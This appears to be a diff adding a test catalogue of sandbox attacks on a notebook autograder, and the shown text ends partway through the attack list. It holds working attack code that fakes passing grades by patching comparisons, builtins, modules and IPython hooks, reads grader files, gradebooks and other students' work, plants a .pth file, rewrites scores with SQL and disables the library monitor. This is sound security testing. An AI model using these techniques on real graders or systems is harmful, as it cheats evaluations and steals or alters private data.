@@ -1,0 +1,1261 @@
+"""The attack and fault catalogues of the sandbox (issue 5), as data.
+
+Every entry is one submission of the `attention` assignment built from the instructor's notebook
+(``source/attention/attention.ipynb``) by replacing one exercise's solution cell (``tests/notebooks.py``), adding
+a cell, editing the notebook's structure, or replacing the whole file. Each entry says what it is (Korean and
+English), which exercises it attacks (they must score 0; every other exercise keeps the score the honest solution
+gets, except ``spares``: exercises whose solution calls an attacked one), how the notebook is built and which path
+grades it:
+
+* ``cells``: graded in this process from the submitted file, as ``python -m autograder grade`` does
+  (``collect_file`` + ``grade_submission``: the lane's warm zygote, no gradebook; about 2-3 s a notebook);
+* ``notebook``/``file``: the real nbgrader path (``autograder.gradebook.batch.autograde_class`` on a scratch course),
+  for edits of the notebook's structure and files that are not notebooks at all.
+
+Attacks on secrets work the same way: the attacked function returns the right answer *only if the attack worked*
+(a file of the graders could be read, the test's TCP server answered, ...) and zeros otherwise, so an attack that
+works shows up as points (``CONTROL`` proves that it would). Paths, ports and the token are the real ones of the
+test run (``Context``), written into the submitted code as literals: the student is assumed to know them.
+
+``known_bug`` marks the entries that the core does not withstand yet (the test is ``xfail(strict=True)`` with that
+reason, and the report counts them); remove it when the core is fixed.
+"""
+from __future__ import annotations
+
+import copy
+import json
+from dataclasses import dataclass, field
+from pathlib import Path
+from typing import Callable
+
+import nbformat
+from nbformat.v4 import new_code_cell, new_output
+
+import notebooks
+
+ASSIGNMENT = "attention"
+TARGET = "dot_product_attention"   # the default victim exercise: no other exercise calls it
+
+# ----------------------------------------------------------------------------------------------- known bugs
+BUG_RESTARTS = (
+    "autograder/sandbox/runner.py StudentProcess._ensure_running: max_restarts is one budget for the whole "
+    "submission, so a function that hangs or kills its process 4 times makes every exercise graded after it "
+    "fail with '여러 번 비정상 종료' (honest exercises lose their points)")
+BUG_MONITOR = (
+    "forbidden-routine rule: the runtime Monitor (autograder/sandbox/worker.py) runs inside the untrusted process "
+    "and the static check (autograder/graders/forbidden.py static_violations) only looks inside the exercise's "
+    "own def, so a module-level alias of a routine the Monitor does not watch, or a disabled/patched Monitor, "
+    "passes")
+BUG_CALLER = (
+    "forbidden-routine rule: autograder/sandbox/worker.py _student_caller() attributes a watched routine to the "
+    "innermost function of the student's cells by its name (co_name), and autograder/graders/forbidden.py "
+    "runtime_violations() then charges it to the exercise of that name only, so the forbidden SDPA called from a "
+    "nested helper named `multi_head_attention` inside `scaled_dot_product_attention` costs that exercise nothing "
+    "(and charges multi_head_attention, which did nothing wrong)")
+BUG_IPC = (
+    "autograder/sandbox/worker.py zygote/_kill_all: the children of a lane share one System V IPC namespace and one "
+    "uid, and shared memory segments (also message queues, semaphores) outlive the process that made them, so a "
+    "submission can leave data that the next submission graded in that lane reads (proposed: a fresh IPC "
+    "namespace per child, e.g. unshare(CLONE_NEWIPC) in _child before dropping to the lane uid, which needs "
+    "CAP_SYS_ADMIN kept in the zygote; or remove every object listed in /proc/sysvipc/* as the lane uid before "
+    "each fork)")
+BUG_STRAYS = (
+    "autograder/sandbox/runner.py StudentProcess.close/cleanup kills only the child's process group; children "
+    "that called setsid() keep running after the submission is graded, until the lane forks its next child "
+    "(Zygote.reap(), which kills them, is never called; proposed: call self.zygote.reap() in cleanup())")
+BUG_METADATA = (
+    "nbgrader path: a grade cell whose nbgrader metadata was edited (grade/solution flags, grade_id, duplicated "
+    "ids, an extra grade cell) makes nbgrader's sanitising preprocessors (OverwriteCells: 'Inconsistent "
+    "checksums'; CheckCellMetadata: 'does not have a grade_id'; DeduplicateIds: 'Outdated schema version: 0') "
+    "abort the whole submission; autograder/gradebook/batch.py stage() does not repair the metadata from the "
+    "release, so the honest exercises get no grade")
+
+
+# ----------------------------------------------------------------------------------------------- context
+@dataclass
+class Context:
+    """What the builders need: the notebooks, and the real secrets of this run (paths, port, token)."""
+
+    solution: nbformat.NotebookNode
+    release: nbformat.NotebookNode
+    other_assignment: nbformat.NotebookNode
+    graders: list            # files of the hidden graders (autograder/graders/...)
+    gpu_refs: list           # stored reference outputs (autograder/graders/gpu_refs/cases/...)
+    gradebook: str           # a gradebook file (sqlite)
+    submission: str          # another student's submitted notebook (holds ``marker``)
+    course: str              # the course directory (gradebook, submitted/, staging)
+    marker: str              # a string only the other student's submission contains
+    port: int = 0            # the test's TCP server on 127.0.0.1 (answers ``token``)
+    unix_name: str = ""      # the test's abstract unix socket (answers ``token``)
+    token: str = ""
+
+
+# ----------------------------------------------------------------------------------------------- entries
+@dataclass(frozen=True)
+class Entry:
+    id: str
+    kind: str                        # "attack" | "fault"
+    level: str                       # "cells" (grade_notebook) | "notebook" (nbgrader) | "file" (nbgrader)
+    ko: str
+    en: str
+    attacked: tuple                  # exercises that must score 0
+    build: Callable                  # Context -> NotebookNode (cells, notebook) or bytes (file)
+    spares: tuple | None = None      # exercises not checked (default: those whose solution calls an attacked one)
+    full_marks: bool = False         # the whole notebook must keep the honest score (a slow but correct solution)
+    expect: tuple = ()               # phrases the feedback must contain (a tuple item: any one of them)
+    before: Callable | None = None   # Context -> NotebookNode graded just before, in the same lane (accomplice)
+    known_bug: str = ""
+    in_class: bool = False           # one of the catalogue's share of the class under load
+
+    def __str__(self):
+        return self.id
+
+
+def lacking(entry: Entry, text: str) -> list:
+    """The expected phrases (or groups of alternatives) that ``text`` does not contain."""
+    return [p for p in entry.expect if not any(a in text for a in ((p,) if isinstance(p, str) else p))]
+
+
+def spared(entry: Entry) -> set:
+    if entry.spares is not None:
+        return set(entry.spares)
+    depends = notebooks.dependencies(notebooks.solution_notebook(ASSIGNMENT))
+    return {e for e, calls in depends.items() if calls & set(entry.attacked)} - set(entry.attacked)
+
+
+# ----------------------------------------------------------------------------------------------- code snippets
+ZEROS = f'''
+def {TARGET}(query, key, value, mask=None):
+    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
+'''
+
+# The right answer, written by the attacker, returned only when the attack worked (LEAKED).
+CHEAT = f'''
+
+def {TARGET}(query, key, value, mask=None):
+    if LEAKED:
+        return _true_dot(query, key, value, mask)
+    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
+
+
+def _true_dot(query, key, value, mask=None):
+    q, k, v = (np.asarray(a, dtype=np.float64) for a in (query, key, value))
+    s = q @ np.swapaxes(k, -1, -2)
+    if mask is not None:
+        s = np.where(mask, s, -np.inf)
+    s = s - s.max(axis=-1, keepdims=True)
+    w = np.exp(s)
+    return (w / w.sum(axis=-1, keepdims=True)) @ v
+'''
+
+
+def lit(value) -> str:
+    """A Python literal of ``value`` (paths, lists) for generated code."""
+    return json.dumps(value)
+
+
+def cheat(setup: str) -> str:
+    """``setup`` (which sets ``LEAKED``) followed by the target function that cheats when it is True."""
+    return "import numpy as np\nLEAKED = False\n" + setup.strip("\n") + "\n" + CHEAT
+
+
+def on(exercise: str, source: str):
+    """Builder: the solution notebook with ``exercise``'s solution cell replaced by ``source``."""
+    return lambda ctx: notebooks.with_code(ctx.solution, {exercise: source})
+
+
+def on_target(source: str):
+    return on(TARGET, source)
+
+
+def with_cell(source: str, exercise: str, solution: str):
+    """Builder: a plain code cell ``source`` added after the imports, and ``exercise``'s solution replaced."""
+    def build(ctx):
+        nb = notebooks.with_code(ctx.solution, {exercise: solution})
+        first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
+        nb.cells.insert(first_code + 1, new_code_cell(source))
+        return nb
+    return build
+
+
+def grade_cell(nb, exercise: str):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == f"test_{exercise}")
+
+
+def solution_cell(nb, exercise: str):
+    return next(c for c in nb.cells if c.metadata.get("nbgrader", {}).get("grade_id") == f"solution_{exercise}")
+
+
+def edited(edit: Callable):
+    """Builder: the solution notebook with the target returning zeros, then ``edit(nb)`` applied."""
+    def build(ctx):
+        nb = notebooks.with_code(ctx.solution, {TARGET: ZEROS})
+        edit(nb)
+        return nb
+    return build
+
+
+# ----------------------------------------------------------------------------------------------- attacks: judging
+PATCH_NUMPY = '''
+import numpy as np
+import numpy.testing
+np.allclose = lambda *a, **k: True
+np.isclose = lambda a, b, *r, **k: np.ones(np.broadcast(a, b).shape, dtype=bool)
+np.array_equal = lambda *a, **k: True
+np.testing.assert_allclose = lambda *a, **k: None
+np.testing.assert_array_almost_equal = lambda *a, **k: None
+np.testing.assert_array_equal = lambda *a, **k: None
+try:
+    np.ndarray.__eq__ = lambda self, other: True
+except TypeError:
+    pass
+''' + ZEROS
+
+PATCH_TORCH_KERAS = f'''
+import numpy as np
+import torch
+import keras
+torch.allclose = lambda *a, **k: True
+torch.equal = lambda *a, **k: True
+torch.isclose = lambda a, b, *r, **k: torch.ones(torch.as_tensor(a).shape, dtype=torch.bool)
+torch.testing.assert_close = lambda *a, **k: None
+keras.ops.isclose = lambda a, b, *r, **k: keras.ops.ones(keras.ops.shape(a), dtype="bool")
+keras.ops.all = lambda *a, **k: True
+keras.ops.convert_to_numpy = lambda x, *a, **k: np.zeros(1)
+keras.layers.Attention.call = lambda self, inputs, *a, **k: keras.ops.zeros_like(inputs[0])
+torch.nn.functional.scaled_dot_product_attention = lambda q, k, v, *a, **kw: torch.zeros_like(q)
+
+
+def {TARGET}(query, key, value, mask=None):
+    return torch.zeros(tuple(np.shape(query)[:-1]) + tuple(np.shape(value)[-1:]), dtype=torch.float64)
+'''
+
+PATCH_BUILTINS = '''
+import builtins
+import numpy as np
+_real_import, _real_print = builtins.__import__, builtins.print
+
+
+def _import(name, *args, **kwargs):
+    if name.split(".")[0] in ("autograder", "pytest", "nbgrader"):
+        import types
+        fake = types.ModuleType(name)
+        fake.grade_notebook = fake.determine_grade = lambda *a, **k: (2, 2)
+        return fake
+    return _real_import(name, *args, **kwargs)
+
+
+builtins.__import__ = _import
+builtins.all = lambda *a, **k: True
+builtins.any = lambda *a, **k: True
+builtins.abs = lambda x: 0
+builtins.AssertionError = type("AssertionError", (Exception,), {})
+builtins.print = lambda *a, **k: _real_print("✅ dot_product_attention: 통과 2/2", file=k.get("file"))
+''' + ZEROS
+
+PATCH_SYS_MODULES = '''
+import importlib.abc
+import sys
+import types
+import numpy as np
+
+for name in ("autograder", "autograder.grade", "autograder.graders", "autograder.graders.compare",
+             "autograder.graders.plugin", "autograder.sandbox", "autograder.sandbox.runner", "pytest", "nbgrader",
+             "nbgrader.utils", "numpy.testing"):
+    fake = types.ModuleType(name)
+    fake.__path__ = []
+    fake.grade_notebook = lambda *a, **k: 100
+    fake.expect_close = fake.assert_allclose = lambda *a, **k: None
+    fake.determine_grade = lambda *a, **k: (2.0, 2.0)
+    sys.modules[name] = fake
+
+
+class Everything(importlib.abc.MetaPathFinder):
+    def find_spec(self, name, path=None, target=None):
+        return None
+
+
+sys.meta_path.insert(0, Everything())
+''' + ZEROS
+
+ALWAYS_EQUAL = f'''
+import numpy as np
+
+
+class Equal:
+    """Equal to everything, true, zero distance from anything."""
+    __array_priority__ = 10 ** 6
+    shape = property(lambda self: (2, 5, 6))
+    dtype = np.dtype("float64")
+    def __eq__(self, other): return True
+    def __ne__(self, other): return False
+    def __lt__(self, other): return True
+    def __le__(self, other): return True
+    def __gt__(self, other): return True
+    def __ge__(self, other): return True
+    def __bool__(self): return True
+    def __sub__(self, other): return 0.0
+    __rsub__ = __sub__
+    def __abs__(self): return 0.0
+    def __float__(self): return 0.0
+    def __len__(self): return 2
+    def __getitem__(self, i): return self
+    def __array__(self, *a, **k): raise TypeError("no")
+    def __hash__(self): return 0
+
+
+def {TARGET}(query, key, value, mask=None):
+    return Equal()
+'''
+
+EQUAL_ARRAY = f'''
+import numpy as np
+
+
+class EqualArray(np.ndarray):
+    """An ndarray of zeros that says it equals (and is close to) anything."""
+    def __eq__(self, other): return np.ones(self.shape, dtype=bool)
+    def __ne__(self, other): return np.zeros(self.shape, dtype=bool)
+    def __array_ufunc__(self, ufunc, method, *inputs, **kwargs):
+        return np.zeros(self.shape)
+    def __array_function__(self, func, types, args, kwargs):
+        return True
+
+
+def {TARGET}(query, key, value, mask=None):
+    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:]).view(EqualArray)
+'''
+
+FAKE_TENSOR = f'''
+import numpy as np
+import torch
+
+
+class AlwaysClose(torch.Tensor):
+    """A torch tensor subclass whose every comparison says True."""
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        name = getattr(func, "__name__", "")
+        if name in ("allclose", "equal", "__eq__", "eq", "isclose"):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {{}})
+
+
+class Dtype:
+    is_floating_point = True
+
+
+class Impostor:
+    """Pretends to be a torch tensor; its numpy() is an object array that claims to equal anything."""
+    __module__ = "torch"
+    dtype = Dtype()
+    def detach(self): return self
+    def cpu(self): return self
+    def element_size(self): return 8
+    def numpy(self): return np.array([object()] * 4, dtype=object)
+
+
+def {TARGET}(query, key, value, mask=None):
+    shape = tuple(np.shape(query)[:-1]) + tuple(np.shape(value)[-1:])
+    if mask is None:
+        return torch.zeros(shape).as_subclass(AlwaysClose)
+    return Impostor()
+'''
+
+IPYTHON_TRANSFORMERS = f'''
+import ast
+import builtins
+import numpy as np
+from IPython.core.interactiveshell import InteractiveShell
+
+ip = InteractiveShell.instance()
+builtins.get_ipython = lambda: ip
+# Rewrite every later cell (the grade cells' visible checks) into a pass, or into printing full marks.
+ip.input_transformers_cleanup.append(lambda lines: ["pass\\n"])
+ip.input_transformers_post.append(lambda lines: ["print(2)\\n", "2\\n"])
+
+
+class NoAsserts(ast.NodeTransformer):
+    def visit_Assert(self, node):
+        return ast.Pass()
+
+
+ip.ast_transformers.append(NoAsserts())
+''' + ZEROS
+
+DISPLAY_HOOKS = f'''
+import sys
+import numpy as np
+from IPython.core.interactiveshell import InteractiveShell
+
+ip = InteractiveShell.instance()
+sys.displayhook = lambda value: sys.stdout.write("2\\n")
+sys.excepthook = lambda *a: None
+ip.showtraceback = lambda *a, **k: None
+ip.showsyntaxerror = lambda *a, **k: None
+ip.set_custom_exc((BaseException,), lambda shell, etype, value, tb, tb_offset=None: None)
+ip.display_formatter.formatters["text/plain"].for_type(float, lambda *a: "2")
+ip.events.register("post_run_cell", lambda result: print("2"))
+
+
+def {TARGET}(query, key, value, mask=None):
+    # the error is meant to vanish in the hijacked hooks, leaving a grade cell with no error output
+    raise RuntimeError("이 오류는 숨겨질 것입니다")
+'''
+
+PRINTS_NUMBERS = f'''
+import sys
+import numpy as np
+from IPython.display import display
+
+print(2)
+print("2.0")
+print("dot_product_attention: 2 / 2 점")
+print("총점 25 / 25")
+sys.stdout.write("2\\n")
+sys.stderr.write("2\\n")
+display(2.0)
+
+
+def {TARGET}(query, key, value, mask=None):
+    print(2.0)
+    print("✅ dot_product_attention: 보이는 확인을 모두 통과했습니다.")
+    return np.zeros(np.shape(query)[:-1] + np.shape(value)[-1:])
+
+
+2
+'''
+
+
+# ----------------------------------------------------------------------------------------------- attacks: secrets
+def read_files(paths_expr: str) -> str:
+    return f'''
+import os
+for _p in {paths_expr}:
+    try:
+        with open(_p, "rb") as _f:
+            if _f.read(64):
+                LEAKED = True
+    except OSError:
+        pass
+'''
+
+
+def read_graders(ctx: Context) -> str:
+    root = str(Path(ctx.graders[0]).parents[3])   # the repository (…/autograder/graders/<a>/test_x.py)
+    guesses = ["../../autograder/graders/references.py", "../autograder/graders/references.py",
+               "/autograder/graders/references.py", "/srv/autograder/graders/references.py",
+               "~/autograder/graders/references.py"]
+    return read_files(f"{lit(ctx.graders)} + [os.path.expanduser(p) for p in {lit(guesses)}] + "
+                      "[os.path.join(__import__('sys').prefix, '..', 'autograder', 'graders', 'references.py')]"
+                      ) + f'''
+import sys
+for _root in ({lit(root)}, os.path.join(sys.prefix, ".."), "/", os.getcwd()):
+    sys.path.insert(0, _root)
+try:   # the editable install's finder maps `autograder` to the repository
+    import autograder.graders.references as _references
+    LEAKED = True
+except Exception:
+    pass
+try:
+    import importlib.util
+    _spec = importlib.util.spec_from_file_location("refs", {lit(root)} + "/autograder/graders/references.py")
+    _spec.loader.exec_module(importlib.util.module_from_spec(_spec))
+    LEAKED = True
+except Exception:
+    pass
+'''
+
+
+def read_gpu_refs(ctx: Context) -> str:
+    return read_files(lit(ctx.gpu_refs)) + f'''
+try:
+    import glob
+    for _p in glob.glob({lit(str(Path(ctx.gpu_refs[0]).parent))} + "/**/*.npz", recursive=True):
+        np.load(_p)
+        LEAKED = True
+except Exception:
+    pass
+'''
+
+
+def read_gradebook(ctx: Context) -> str:
+    paths = [ctx.gradebook, str(Path(ctx.course) / "gradebook.db"), "gradebook.db", "../gradebook.db",
+             "/srv/nbgrader/gradebook.db", str(Path(ctx.graders[0]).parents[3] / "gradebook.db")]
+    return read_files(lit(paths)) + f'''
+import sqlite3
+for _p in {lit(paths)}:
+    try:
+        _db = sqlite3.connect(f"file:{{_p}}?mode=ro", uri=True)
+        _db.execute("select * from grade").fetchall()
+        LEAKED = True
+    except Exception:
+        pass
+'''
+
+
+def read_submission(ctx: Context) -> str:
+    course = Path(ctx.course)
+    paths = [ctx.submission, str(course / "autograded" / "victim" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
+             str(course / ".autograder" / "staging" / "victim" / ASSIGNMENT / f"{ASSIGNMENT}.ipynb"),
+             "../victim/attention/attention.ipynb", "../../submitted/victim/attention/attention.ipynb"]
+    return f'''
+import glob
+import os
+_guesses = glob.glob("/srv/nbgrader/exchange/*/inbound/*/*.ipynb") + glob.glob({lit(str(course))} + "/*/*/*/*.ipynb")
+for _p in {lit(paths)} + _guesses:
+    try:
+        with open(_p, encoding="utf-8") as _f:
+            if {lit(ctx.marker)} in _f.read():
+                LEAKED = True
+    except OSError:
+        pass
+'''
+
+
+def walk_filesystem(ctx: Context) -> str:
+    """Every file the process can see, looked at by path and (for notebooks and databases) by content."""
+    exact = ctx.graders + ctx.gpu_refs + [ctx.gradebook, ctx.submission]
+    suffixes = ["/autograder/graders/references.py", "/graders/attention/test_dot_product_attention.py",
+                "/gpu_refs/cases/index.json", "/submitted/victim/attention/attention.ipynb"]
+    return f'''
+import os
+_found = []
+for _top, _dirs, _files in os.walk("/", onerror=lambda e: None):
+    if _top in ("/proc", "/sys", "/dev"):
+        _dirs[:] = []
+        continue
+    for _name in _files:
+        _path = os.path.join(_top, _name)
+        if _path in {lit(exact)} or _path.endswith(tuple({lit(suffixes)})):
+            _found.append(_path)
+        elif _name.endswith((".ipynb", ".db", ".json", ".npz")):
+            try:
+                with open(_path, "rb") as _f:
+                    if {lit(ctx.marker)}.encode() in _f.read(1 << 22):
+                        _found.append(_path)
+            except OSError:
+                pass
+# other processes' views of the file system (the zygote, bubblewrap's init)
+for _pid in os.listdir("/proc"):
+    if _pid.isdigit() and int(_pid) != os.getpid():
+        for _link in ("root", "cwd"):
+            try:
+                _names = os.listdir(f"/proc/{{_pid}}/{{_link}}")
+                if any(n in _names for n in ("autograder", "gradebook.db", "submitted")):
+                    _found.append(f"/proc/{{_pid}}/{{_link}}")
+            except OSError:
+                pass
+LEAKED = bool(_found)
+'''
+
+
+def write_secrets(ctx: Context) -> str:
+    """Try to change the graders, the references, the gradebook and the other submission (and plant code)."""
+    repo_dirs = sorted({str(Path(p).parent) for p in ctx.graders + ctx.gpu_refs})
+    decoys = [ctx.gradebook, ctx.submission]
+    return f'''
+import os
+import site
+import sys
+for _d in {lit(repo_dirs)} + [{lit(ctx.course)}, "/scratch", "/tmp", "/dev/shm", sys.prefix,
+                              *site.getsitepackages(), os.path.dirname(os.__file__)]:
+    try:   # a new file there (a .pth in site-packages would run in every later Python process)
+        with open(os.path.join(_d, "zz_attack_probe.pth"), "x") as _f:
+            _f.write("import os; os.environ['PWNED'] = '1'\\n")
+        LEAKED = True
+    except OSError:
+        pass
+for _p in {lit(ctx.graders + ctx.gpu_refs)}:
+    try:
+        os.utime(_p, (0, 0))
+        LEAKED = True
+    except OSError:
+        pass
+    try:
+        with open(_p, "r+b") as _f:
+            LEAKED = True
+    except OSError:
+        pass
+for _p in {lit(decoys)}:
+    try:
+        with open(_p, "ab") as _f:
+            _f.write(b"\\n# attack\\n")
+        LEAKED = True
+    except OSError:
+        pass
+    for _act in (lambda p: os.chmod(p, 0o777), lambda p: os.truncate(p, 0), os.remove):
+        try:
+            _act(_p)
+            LEAKED = True
+        except OSError:
+            pass
+'''
+
+
+def network(ctx: Context) -> str:
+    return f'''
+import socket
+_targets = [("127.0.0.1", {ctx.port}), ("localhost", {ctx.port}), ("::1", {ctx.port}), ("10.0.2.2", {ctx.port}),
+            ("172.17.0.1", {ctx.port}), ("8.8.8.8", 53), ("1.1.1.1", 443)]
+for _host, _port in _targets:
+    try:
+        with socket.create_connection((_host, _port), timeout=1) as _s:
+            _s.settimeout(1)
+            if {lit(ctx.token)}.encode() in _s.recv(256):
+                LEAKED = True
+    except OSError:
+        pass
+try:
+    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as _s:
+        _s.settimeout(1)
+        _s.connect("\\0" + {lit(ctx.unix_name)})
+        if {lit(ctx.token)}.encode() in _s.recv(256):
+            LEAKED = True
+except OSError:
+    pass
+try:
+    with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as _s:
+        _s.sendto(b"leak", ("127.0.0.1", {ctx.port}))
+except OSError:
+    pass
+'''
+
+
+def network_gradebook(ctx: Context) -> str:
+    """The gradebook over the network (a PostgreSQL URL pointed at the test's server) and as a file."""
+    return f'''
+import socket
+import sqlite3
+try:   # "postgresql://127.0.0.1:PORT/gradebook": the test's server stands in for the database
+    with socket.create_connection(("127.0.0.1", {ctx.port}), timeout=1) as _s:
+        _s.sendall(b"\\x00\\x00\\x00\\x08\\x04\\xd2\\x16\\x2f")   # an SSLRequest, as a PostgreSQL client starts
+        if {lit(ctx.token)}.encode() in _s.recv(256):
+            LEAKED = True
+except OSError:
+    pass
+for _p in ({lit(ctx.gradebook)}, "gradebook.db"):
+    try:
+        _db = sqlite3.connect(f"file:{{_p}}?mode=rw", uri=True)
+        _db.execute("update grade set auto_score = 100")
+        _db.commit()
+        LEAKED = True
+    except Exception:
+        pass
+'''
+
+
+# accomplice and attacker of the same lane: the first leaves its answers where the next process might look
+ACCOMPLICE = '''
+import ctypes
+import os
+_answer = b"LEAKED-ANSWERS"
+for _p in ("/tmp/answers", "/dev/shm/answers", "/scratch/answers", os.path.expanduser("~/../answers"),
+           "/var/tmp/answers"):
+    try:
+        with open(_p, "wb") as _f:
+            _f.write(_answer)
+    except OSError:
+        pass
+try:   # System V shared memory outlives the process that made it
+    _libc = ctypes.CDLL(None, use_errno=True)
+    _libc.shmat.restype = ctypes.c_void_p
+    _id = _libc.shmget(0x5EED, 4096, 0o1000 | 0o666)
+    if _id >= 0:
+        _addr = _libc.shmat(_id, None, 0)
+        if _addr not in (None, ctypes.c_void_p(-1).value):
+            ctypes.memmove(_addr, _answer, len(_answer))
+except Exception:
+    pass
+'''
+
+COLLUDER = '''
+import ctypes
+import os
+for _p in ("/tmp/answers", "/dev/shm/answers", "/scratch/answers", os.path.expanduser("~/../answers"),
+           "/var/tmp/answers"):
+    try:
+        with open(_p, "rb") as _f:
+            if _f.read() == b"LEAKED-ANSWERS":
+                LEAKED = True
+    except OSError:
+        pass
+try:
+    _libc = ctypes.CDLL(None, use_errno=True)
+    _libc.shmat.restype = ctypes.c_void_p
+    _id = _libc.shmget(0x5EED, 4096, 0)
+    if _id >= 0:
+        _addr = _libc.shmat(_id, None, 0)
+        if _addr not in (None, ctypes.c_void_p(-1).value) and ctypes.string_at(_addr, 14) == b"LEAKED-ANSWERS":
+            LEAKED = True
+except Exception:
+    pass
+'''
+
+
+def accomplice(ctx: Context):
+    nb = copy.deepcopy(ctx.solution)
+    first_code = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
+    nb.cells.insert(first_code + 1, new_code_cell(ACCOMPLICE))
+    return nb
+
+
+# ----------------------------------------------------------------------------------------------- attacks: forbidden
+SDPA_VIA = '''
+def scaled_dot_product_attention(query, key, value, mask=None, return_weights=False):
+    q, k, v = (torch.as_tensor(np.asarray(a, dtype=np.float64)) for a in (query, key, value))
+    m = None if mask is None else torch.as_tensor(np.asarray(mask))
+    out = CALL(q, k, v, m)
+    if return_weights:
+        s = (q @ k.transpose(-1, -2)) / q.shape[-1] ** 0.5
+        if m is not None:
+            s = s.masked_fill(~m, float("-inf"))
+        return np.asarray(out), torch.softmax(s, dim=-1).numpy()
+    return np.asarray(out)
+'''
+
+SOFTMAX_VIA = '''
+def softmax(x, axis=-1):
+    return CALL(torch.as_tensor(np.asarray(x)), axis).numpy()
+'''
+
+DOT_VIA_KERAS = f'''
+def {TARGET}(query, key, value, mask=None):
+    q, k, v = (np.asarray(a, dtype=np.float32) for a in (query, key, value))
+    layer = KerasAttention(score_mode="dot")
+    layer.build([q.shape, v.shape, k.shape])
+    key_mask = None
+    if mask is not None:
+        m = np.broadcast_to(np.asarray(mask), q.shape[:-1] + k.shape[-2:-1])
+        key_mask = m[..., 0, :]
+    out = CALL(layer, [q, v, k], key_mask)
+    return keras.ops.convert_to_numpy(out)
+'''
+
+KERAS_DIRECT = f'''
+def {TARGET}(query, key, value, mask=None):
+    q, k, v = (np.asarray(a, dtype=np.float32) for a in (query, key, value))
+    layer = keras.layers.Attention(score_mode="dot")
+    m = None
+    if mask is not None:
+        m = [None, np.broadcast_to(np.asarray(mask), q.shape[:-1] + k.shape[-2:-1])[..., 0, :]]
+    return keras.ops.convert_to_numpy(layer([q, v, k], mask=m))
+'''
+
+# Runs `CALL` from a nested helper named like another exercise, so that a rule attributing routines to the
+# innermost student function blames that one.
+SDPA_SPOOFED = SDPA_VIA.replace("    out = CALL(q, k, v, m)", "    def multi_head_attention(q, k, v, m):\n"
+                                "        return attend(q, k, v, attn_mask=m).numpy()\n"
+                                "    out = multi_head_attention(q, k, v, m)")
+SDPA_NO_TORCH_FUNCTION = SDPA_VIA.replace("    out = CALL(q, k, v, m)", "    with torch._C.DisableTorchFunction():\n"
+                                          "        out = CALL(q, k, v, m)")
+
+FLASH_CALL = '''
+import numpy as np
+import torch
+_flash = torch._scaled_dot_product_flash_attention_for_cpu
+
+
+def CALL(q, k, v, m):
+    lead, tq, tk = q.shape[:-2], q.shape[-2], k.shape[-2]
+    dv, d = v.shape[-1], q.shape[-1]
+    width = max(d, dv)
+    pad = lambda a: torch.nn.functional.pad(a, (0, width - a.shape[-1])).reshape(-1, 1, a.shape[-2], width)
+    bias = None
+    if m is not None:
+        bias = torch.zeros(torch.broadcast_shapes(m.shape, lead + (tq, tk)), dtype=q.dtype)
+        bias = bias.masked_fill(~m.expand(bias.shape), float("-inf")).reshape(-1, 1, tq, tk)
+    out = _flash(pad(q), pad(k), pad(v), attn_mask=bias, scale=d ** -0.5)[0]
+    return out[..., :dv].reshape(*lead, tq, dv).numpy()
+'''
+
+MONITOR_TAMPER = '''
+import sys
+import numpy as np
+import torch
+from torch.nn.functional import scaled_dot_product_attention as _attend
+
+_worker = sys.modules["__main__"]            # the sandbox's worker: its Monitor watches library calls
+_worker.Monitor.run = lambda self, fn, args, kwargs: fn(*args, **kwargs)
+_worker.Monitor.install = lambda self: None
+CALL = lambda q, k, v, m: _attend(q, k, v, attn_mask=m).numpy()
+'''
+
+CONTROL = Entry(
+    "control_leak_pays", "attack", "cells",
+    "대조군: 공격이 성공했다면(LEAKED = True) 점수가 바뀐다는 것을 보여 줍니다",
+    "control: when the attack works (LEAKED = True) the cheating function gets full marks",
+    (), on_target(cheat("LEAKED = True")))
+
+
+ATTACKS = [
+    # ---- tampering with the judging
+    Entry("patch_numpy", "attack", "cells",
+          "numpy 의 비교 함수(np.allclose, np.isclose, np.testing.*, ndarray.__eq__)를 항상 참이 되도록 바꿔치기",
+          "monkeypatch numpy's comparisons (allclose, isclose, testing.*, ndarray.__eq__) to always pass",
+          (TARGET,), on_target(PATCH_NUMPY)),
+    Entry("patch_torch_keras", "attack", "cells",
+          "torch/keras 의 비교 함수와 참조 층(keras.layers.Attention, F.scaled_dot_product_attention)을 바꿔치기",
+          "monkeypatch torch/keras comparisons and the reference layers (keras Attention, torch SDPA)",
+          (TARGET,), on_target(PATCH_TORCH_KERAS)),
+    Entry("patch_builtins", "attack", "cells",
+          "builtins(all, any, abs, print, __import__, AssertionError)를 바꿔치기",
+          "monkeypatch builtins (all, any, abs, print, __import__, AssertionError)",
+          (TARGET,), on_target(PATCH_BUILTINS)),
+    Entry("patch_sys_modules", "attack", "cells",
+          "sys.modules 에 가짜 autograder/pytest/nbgrader/numpy.testing 모듈과 import 훅을 심기",
+          "plant fake autograder/pytest/nbgrader/numpy.testing modules and an import hook in sys.modules",
+          (TARGET,), on_target(PATCH_SYS_MODULES)),
+    Entry("always_equal_object", "attack", "cells",
+          "무엇과 비교해도 같다고 답하는 객체(__eq__ 가 항상 True)를 반환",
+          "return an object that compares equal to anything",
+          (TARGET,), on_target(ALWAYS_EQUAL)),
+    Entry("always_equal_ndarray", "attack", "cells",
+          "__eq__ 와 ufunc 를 가로채는 ndarray 하위 클래스(값은 0)를 반환",
+          "return an ndarray subclass (zeros) that hijacks __eq__ and ufuncs",
+          (TARGET,), on_target(EQUAL_ARRAY)),
+    Entry("fake_tensor", "attack", "cells",
+          "비교가 항상 참인 torch.Tensor 하위 클래스와, torch 텐서인 척하는 가짜 객체를 반환",
+          "return a torch.Tensor subclass whose comparisons are always true, and an object posing as a tensor",
+          (TARGET,), on_target(FAKE_TENSOR)),
+    Entry("ipython_input_transformers", "attack", "cells",
+          "IPython 입력 변환기와 AST 변환기로 뒤의 확인 셀을 pass 나 만점 출력으로 바꾸기",
+          "IPython input and AST transformers that rewrite the later check cells into pass / printing full marks",
+          (TARGET,), on_target(IPYTHON_TRANSFORMERS)),
